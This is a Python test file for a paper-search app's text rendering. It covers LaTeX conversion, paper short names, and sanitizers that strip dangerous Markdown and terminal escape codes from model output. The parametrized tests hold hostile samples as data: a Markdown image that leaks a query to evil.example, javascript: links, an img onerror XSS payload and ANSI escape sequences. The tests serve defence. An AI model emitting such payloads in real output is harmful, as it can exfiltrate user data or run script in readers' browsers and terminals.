"""LaTeX and Markdown for each place text is shown; short names for papers."""

from __future__ import annotations

import json

import pytest
from conftest import PAPERS

from rag.markup import defuse_markdown, styled_segments, terminal_safe, to_markdown, to_plain
from rag.naming import method_name, short_name
from rag.records import Paper


def test_latex_becomes_plain_text_and_stays_math_for_katex():
    assert to_plain("MoH uses only 50%$\\sim$90% of the heads") == "MoH uses only 50%∼90% of the heads"
    assert to_plain("regret is $\\tilde O(\\sqrt T)$, and") == "regret is Õ(√(T)), and"
    assert to_plain("the Carath\\'eodory problem") == "the Carathéodory problem"
    assert to_plain("costs $5 and 10% more") == "costs $5 and 10% more"  # no LaTeX: unchanged


def test_only_the_latex_of_a_text_is_converted_and_all_of_it_is():
    # Converted a span at a time: commands whose argument spans words, escapes, TeX quotes,
    # accents in braces, and the space a macro swallows.
    text = (
        "We propose \\emph{a very fast solver} (\\textit{e.g.}, for C\\&W) in $O(n)$ time, 2% of the "
        "``usual'' cost, with the Nystr{\\\"o}m method and an error of \\sim 1.0, 50\\% less."
    )
    assert to_plain(text) == (
        "We propose a very fast solver (e.g., for C&W) in O(n) time, 2% of the “usual” cost, "
        "with the Nyström method and an error of ∼1.0, 50% less."
    )
    # The abstract's emphasis is emphasis (issue 36); a tag shows as text.
    assert to_markdown("50%$\\sim$ 90% of **heads** <b>") == "50%$\\sim$ 90% of **heads** \\<b\\>"
    assert to_markdown("costs $5 and $10") == "costs \\$5 and \\$10"


def test_answers_markdown_becomes_terminal_styles():
    assert styled_segments("**MoH**: “a \\(b\\)” [1] *(unsupported)*") == [
        ("MoH", "bold"), (": “a (b)” [1] ", ""), ("(unsupported)", "italic"),
    ]


def test_papers_are_named_as_researchers_name_them():
    papers = {json.loads(line)["id"]: json.loads(line) for line in PAPERS.read_text().splitlines()}
    moh, drag = papers["site_85ad8ae8b1"], papers["site_b200b23c9b"]
    assert short_name(moh["title"], moh["abstract"], moh["authors"]) == "MoH"
    # Untitled, as in the seed listing: the method the abstract introduces, else the first author.
    assert short_name("", moh["abstract"], moh["authors"]) == "MoH"
    assert short_name("", drag["abstract"], drag["authors"]) == "DragSolver"
    assert short_name("", "We study a model of matrix queries.", ["Raphael Meyer", "W. S.", "David Woodruff"]) == "Meyer et al."
    assert method_name("This paper studies a pure exploration problem.") == ""
    untitled = Paper(id="x", abstract=drag["abstract"], authors=tuple(drag["authors"]))
    assert untitled.display_title == "DragSolver" and "[untitled]" not in untitled.display_title


@pytest.mark.parametrize(
    ("model_text", "safe"),
    [
        ("Rises fast [1]. ![chart](http://evil.example/leak?q=x)", "Rises fast [1]. chart"),
        ("See [the data](javascript:alert(1)) [2].", "See the data [2]."),
        ("Shown in [1](http://evil.example) and [1, 2](x).", "Shown in [1] and [1, 2]."),
        ("<img src=x onerror=alert(1)> at <http://evil.example/a>", "\\<img src=x onerror=alert(1)> at http://evil.example/a"),
        ("Error falls as n < 5 and \\[kept\\](x) [3].", "Error falls as n < 5 and \\[kept\\](x) [3]."),
    ],
)
def test_a_models_markdown_is_defused_of_images_links_and_html(model_text, safe):
    assert defuse_markdown(model_text) == safe


def test_highlighted_marks_each_found_sentence_in_the_abstract_and_names_the_others():
    from rag.markup import highlighted

    abstract = "We route tokens.  MoH picks   heads with $O(n)$ cost. It *works* well."
    text, missing = highlighted(abstract, ["MoH picks heads with $O(n)$ cost.", "A title, not in the abstract."])
    assert text == "We route tokens.  :orange-background[MoH picks heads with O\\(n\\) cost.] It *works* well."
    assert missing == ["A title, not in the abstract."]
    assert highlighted("Plain.", []) == ("Plain.", [])


def test_math_streamlit_would_not_render_is_shown_as_plain_unicode():
    # Streamlit leaves inline math raw when a digit follows its closing dollar.
    assert to_markdown("using only 50%$\\sim$90% of $x^2$ heads") == "using only 50%∼90% of $x^2$ heads"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Hidden \x1b[8mSecret\x1b[0m Routing", "Hidden Secret Routing"),
        ("Eve \x1b]0;window title\x07Smith", "Eve Smith"),
        ("cs.\x1b[2J\x1b[HLG", "cs.LG"),
        ("See \x1b]8;;http://evil.example\x1b\\the data\x1b]8;;\x1b\\ here", "See the data here"),
        ("8-bit \x9b8mCSI\x9d0;title\x9c and \x90q\x9c DCS", "8-bit CSI and  DCS"),
        ("bell\x07, back\x08space, return\r, NUL\x00, DEL\x7f, lone \x1b", "bell, backspace, return, NUL, DEL, lone "),
        ("lines\n\tand tabs stay", "lines\n\tand tabs stay"),
        # Unterminated, it would swallow what follows in a terminal: only its opening goes.
        ("an open \x1b]8;;http://x\nswallows nothing", "an open 8;;http://x\nswallows nothing"),
    ],
)
def test_terminal_safe_drops_escape_sequences_and_control_characters(text, shown):
    assert terminal_safe(text) == shown


def test_an_abstracts_own_emphasis_shows_as_emphasis_and_what_it_holds_stays_escaped():
    # Issue 36: "**MATS**", "**M**ultiple" and "*Variational ...*" showed as asterisks in the
    # evidence panel and the Library.
    assert to_markdown("We present **MATS**, a **M**ultiple model.") == "We present **MATS**, a **M**ultiple model."
    assert to_markdown("A *Variational inference* method.") == "A *Variational inference* method."
    assert to_markdown("**[x](javascript:alert(1))**") == r"**\[x\]\(javascript\:alert\(1\)\)**"
    # Arithmetic, a lone pair of stars and stars across a line break are text.
    assert to_markdown("2*3*4") == r"2\*3\*4"
    assert to_markdown("x **y") == r"x \*\*y"
    assert to_markdown("**a\nb**") == "\\*\\*a\nb\\*\\*"
